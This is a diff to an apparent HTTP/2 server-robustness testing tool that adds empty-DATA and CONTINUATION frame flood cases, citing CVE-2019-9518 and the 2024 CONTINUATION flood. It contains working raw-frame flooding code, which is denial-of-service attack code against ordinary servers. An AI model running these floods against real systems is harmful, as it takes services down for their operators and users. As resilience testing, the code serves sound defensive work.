@@ -79,7 +79,7 @@ from h2.settings import SettingCodes
 
 CASES = [
     "ok", "smuggle-te", "smuggle-cl", "smuggle-crlf", "connection-header",
-    "rst-flood", "settings-flood", "bad-preface",
+    "rst-flood", "settings-flood", "bad-preface", "empty-data-flood", "continuation-flood",
 ]
 FRAME_TYPES = {0: "DATA", 1: "HEADERS", 2: "PRIORITY", 3: "RST_STREAM", 4: "SETTINGS",
                5: "PUSH_PROMISE", 6: "PING", 7: "GOAWAY", 8: "WINDOW_UPDATE", 9: "CONTINUATION"}
@@ -518,6 +518,62 @@ def case_settings_flood(p, args):
     return r
 
 
+def send_flood(p, frame, n_target):
+    """Writes `frame` up to n_target times without reading; returns how many the kernel took."""
+    sent = 0
+    chunk = 1000
+    buf = frame * chunk
+    while sent < n_target and not p.closed and p.left() > 0:
+        n = min(chunk, n_target - sent)
+        view = memoryview(buf if n == chunk else frame * n)
+        stall_until = time.monotonic() + 2.0
+        while view and not p.closed and p.left() > 0:
+            try:
+                k = p.sock.send(view)
+                view = view[k:]
+                stall_until = time.monotonic() + 2.0
+            except (BlockingIOError, ssl.SSLWantWriteError, ssl.SSLWantReadError):
+                if time.monotonic() > stall_until:
+                    break
+                select.select([], [p.sock], [], 0.05)
+            except OSError as e:
+                p._mark_closed(f"send: {type(e).__name__}")
+                break
+        sent += n - (len(view) + len(frame) - 1) // len(frame)
+        if view:
+            break
+    return sent
+
+
+def case_frame_flood(p, args, case):
+    """Opens stream 1 without ending it, then floods frames that do nothing on it:
+    empty DATA frames (CVE-2019-9518), or CONTINUATION frames that never end the header
+    block (the 2024 CONTINUATION flood)."""
+    sent = 0
+    if p.start():
+        p.pump(0.2)
+        p.send_raw(b"")
+        block = b"\x83\x86\x84"  # :method POST, :scheme http, :path /
+        if case == "empty-data-flood":
+            opener = struct.pack(">I", len(block))[1:] + b"\x01\x04" + struct.pack(">I", 1) + block
+            frame = b"\x00\x00\x00\x00\x00" + struct.pack(">I", 1)
+        else:
+            opener = struct.pack(">I", len(block))[1:] + b"\x01\x00" + struct.pack(">I", 1) + block
+            junk = b"\x00" * 4096
+            frame = struct.pack(">I", len(junk))[1:] + b"\x09\x00" + struct.pack(">I", 1) + junk
+        p.h2_ok = False  # raw frames from here on
+        p.send_raw(opener)
+        sent = send_flood(p, frame, args.frames)
+        end = min(p.deadline, time.monotonic() + 3.0)
+        while not p.closed and p.goaway is None and time.monotonic() < end:
+            p.pump(end - time.monotonic())
+        p.drain(0.2)
+    r = finish_conn(p, case, {"frames_sent": sent})
+    if r["outcome"] == "timeout":
+        r["outcome"] = "open"
+    return r
+
+
 def case_bad_preface(p, args):
     p.conn.initiate_connection()
     data = p.conn.data_to_send()
@@ -573,6 +629,8 @@ def run_case(args):
             return case_settings_flood(p, args)
         if case == "bad-preface":
             return case_bad_preface(p, args)
+        if case in ("empty-data-flood", "continuation-flood"):
+            return case_frame_flood(p, args, case)
         raise AssertionError(case)
     finally:
         p.close()
